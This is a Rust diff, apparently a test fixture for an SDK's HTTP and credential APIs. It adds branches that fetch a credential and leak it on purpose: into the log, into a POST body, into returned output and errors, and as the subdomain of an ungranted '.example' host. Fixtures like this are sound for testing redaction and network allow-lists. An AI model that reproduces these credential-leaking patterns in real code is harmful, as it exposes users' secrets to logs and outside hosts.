@@ -1,4 +1,5 @@
-//! An action that asks a server in the ways of the SDK's HTTP client.
+//! An action that asks a server in the ways of the SDK's HTTP client, and tells it what
+//! it gets for a credential.
 
 #![no_std]
 
@@ -53,6 +54,22 @@ impl SimpleAction for Asks {
                 return Ok(format!("{bytes} bytes, several parts: {}", parts > 1));
             }
             "again" => http.get(url("/busy-once")).retries(2).send().await?,
+            // Whatever it gets for the credential: to the server, in its log, its output
+            // and its error.
+            "tells" | "fails" => {
+                let text = ctx.get_credential("door").await?;
+                ctx.log().info(format!("it is {text}"));
+                http.post(url("/told")).body(text.as_str()).send().await?;
+                return match input.how.as_str() {
+                    "tells" => Ok(text),
+                    _ => Err(ActionError::permanent(format!("no use for {text}"))),
+                };
+            }
+            // A host by that name, which nobody granted.
+            "strays" => {
+                let text = ctx.get_credential("door").await?;
+                http.get(format!("https://{text}.example/")).send().await?
+            }
             "patient" => {
                 let request = http.get(url("/silent")).timeout(Duration::from_millis(100));
                 return Ok(request.send().await.expect_err("no answer").to_string());
